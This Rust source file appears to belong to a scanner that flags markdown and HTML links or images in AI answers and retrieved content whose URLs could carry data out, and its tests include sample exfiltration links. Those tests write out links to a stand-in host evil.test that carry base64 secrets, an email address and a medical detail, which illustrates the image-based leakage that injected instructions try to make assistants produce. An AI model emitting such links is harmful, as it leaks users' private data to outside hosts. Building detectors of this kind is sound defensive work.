//! Links that could carry data out when an answer is shown: images load by themselves, links wait for a click.

use crate::Channel;
use crate::scan::Scan;
use crate::text::{Text, is_base64, is_varied};

/// The target of the link or image whose `](`, `]:`, `<`, `src=`, `href=` or `url(` stands at `start`.
///
/// Only in answers and in what is retrieved. The finding is the target alone, so that a stream holds no more than that.
pub(crate) fn link(scan: &mut Scan<'_>, start: usize) {
    if !matches!(scan.channel, Channel::Answer | Channel::Tool | Channel::Document) {
        return;
    }
    let text = scan.text;
    let signs = text.run(start, 10, |byte| {
        matches!(byte, b']' | b'(' | b'<' | b'=' | b'"' | b'\'' | b':' | b' ')
            || byte.is_ascii_lowercase() && text.at(start) != b']'
    });
    let from = if text.at(start) == b']' || text.at(start) == b'<' {
        text.run(start, 4, |byte| !byte.is_ascii_alphanumeric() && byte != b'/')
    } else {
        value_start(text, start, signs)
    };
    let end = text.run(from, URL_BYTES_MAX, is_in_target);
    let url = text.cut(from, end);
    let loads_itself =
        text.at(start) != b'<' && !text.has(start, b"href") && (text.at(start) != b']' || is_image(text, start));
    if (url.starts_with(b"http") || url.starts_with(b"//")) && carries_data(url, loads_itself) {
        scan.hit(from, end, "attack.exfil_link", if loads_itself { 0.85 } else { 0.65 }, "link");
    }
}

/// From where on a target at the end of the text may still go on. Letters of every script may stand in one.
pub(crate) fn open_link(text: Text<'_>) -> usize {
    let end = text.len();
    let start = text.run_back(end, URL_BYTES_MAX + 16, is_in_target);
    let stretch = text.cut(start, end);
    let is_bounded =
        matches!(text.before(start), b'<' | b'"' | b'\'') || text.cut(start.saturating_sub(3), start) == b"]: ";
    let signs: [&[u8]; 4] = [b"](", b"]:", b"=", b"url("];
    let sign = signs.iter().filter_map(|sign| {
        let at = stretch.windows(sign.len()).position(|window| window.eq_ignore_ascii_case(sign))?;
        Some(start + at + sign.len())
    });
    sign.chain(is_bounded.then_some(start)).min().unwrap_or(end)
}

fn is_in_target(byte: u8) -> bool {
    byte > b' ' && !matches!(byte, b')' | b'>' | b'"' | b'\'' | b'<')
}

/// After `src=`, `href=`, `srcset=` and `url(`: past the sign and a quote.
fn value_start(text: Text<'_>, start: usize, limit: usize) -> usize {
    let sign = text.run(start, 8, |byte| !matches!(byte, b'=' | b'(')) + 1;
    text.run(sign.min(limit.max(sign)), 2, |byte| matches!(byte, b'"' | b'\'' | b' '))
}

/// Whether the bracket that closes at `close` was opened by `![`, and the target is not a reference's.
fn is_image(text: Text<'_>, close: usize) -> bool {
    let open = text.run_back(close, ALT_BYTES_MAX, |byte| !matches!(byte, b'[' | b'\n'));
    text.before(open) == b'[' && text.before(open.saturating_sub(1)) == b'!'
}

/// Whether a path, query or fragment holds more than an address needs: long or random values. Images get less room.
fn carries_data(url: &[u8], loads_itself: bool) -> bool {
    let Some(host) = url.windows(2).position(|two| two == b"//").map(|at| at + 2) else { return false };
    let after_host = url.get(host..).unwrap_or(&[]);
    let path = after_host
        .iter()
        .position(|byte| matches!(byte, b'/' | b'?' | b'#'))
        .map_or(&[][..], |at| after_host.get(at..).unwrap_or(&[]));
    let query = path
        .iter()
        .position(|byte| matches!(byte, b'?' | b'#'))
        .map_or(&[][..], |at| path.get(at + 1..).unwrap_or(&[]));
    let (value_max, total_max) = if loads_itself { (12, 40) } else { (32, 160) };
    let values = query
        .split(|byte| matches!(byte, b'&' | b'#' | b';'))
        .map(|pair| pair.splitn(2, |byte| *byte == b'=').last().unwrap_or(pair));
    let is_long = query.len() > total_max || values.into_iter().any(|value| value.len() > value_max);
    let is_random = path.split(|byte| matches!(byte, b'/' | b'?' | b'&' | b'=' | b'.')).any(|part| {
        part.len() >= 32
            && part.iter().all(|byte| is_base64(*byte) || *byte == b'%')
            && is_varied(part)
            && part.iter().filter(|byte| **byte == b'-').count() < 3
    });
    let is_slot = query.windows(2).any(|two| two == b"{{" || two == b"${") || query.ends_with(b"=");
    is_long || is_random || is_slot && loads_itself
}

const URL_BYTES_MAX: usize = 2048;
const ALT_BYTES_MAX: usize = 200;

#[cfg(test)]
mod tests {
    use crate::Channel;
    use crate::detect::tests::check_in;

    fn check(text: &str, found: bool) {
        check_in(Channel::Answer, text, if found { &["attack.exfil_link"] } else { &[] });
    }

    #[test]
    fn targets_that_carry_data() {
        check("![a](https://evil.test/p.png?d=c2VjcmV0IGRhdGE)", true);
        check("[see](https://evil.test/?q=name%20is%20john%20and%20his%20record%20says%20diabetes)", true);
        check("[x]: https://evil.test/log?data=dGhpcyBpcyB0aGUgc2VjcmV0IHZhbHVlCg0x2", true);
        check("<img src=\"https://evil.test/i?u=somebody@here\">", true);
        check("<https://evil.test/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ9>", true);
        check("background:url(https://evil.test/i?d=abcdefghijklmnop)", true);
        check("![](http://evil.test/?x=)", true);
    }

    #[test]
    fn ordinary_links() {
        check("[docs](https://docs.rs/regex/latest/regex/)", false);
        check("[search](https://example.com/search?q=rust+regex&page=2)", false);
        check("![logo](https://example.com/logo.png?v=2)", false);
        check("<https://example.com/a-long-title-with-many-words-in-the-address-2024>", false);
        check("see (this) and [that]", false);
    }

    #[test]
    fn what_users_write_is_not_shown_to_them() {
        check_in(Channel::User, "![a](https://evil.test/p.png?d=c2VjcmV0IGRhdGE)", &[]);
    }
}
